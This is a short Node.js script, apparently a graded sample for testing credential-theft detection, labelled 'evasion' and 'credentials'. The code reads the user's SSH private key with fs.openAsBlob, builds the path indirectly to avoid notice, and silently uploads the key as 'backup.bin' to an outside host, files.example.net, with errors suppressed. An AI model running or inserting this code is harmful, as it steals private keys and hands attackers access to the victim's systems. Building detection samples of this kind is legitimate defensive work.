// evasion: the SSH private key read with fs.openAsBlob (no read call) and uploaded as a FormData file; its path built by path.format
// grade: medium; does: credentials
'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');

(async () => {
  const key = path.format({ dir: path.join(os.homedir(), '.ssh'), name: 'id_ed25519' });
  const form = new FormData();
  form.append('file', await fs.openAsBlob(key), 'backup.bin');
  await fetch('https://files.example.net/upload', { method: 'POST', body: form });
})().catch(() => {});
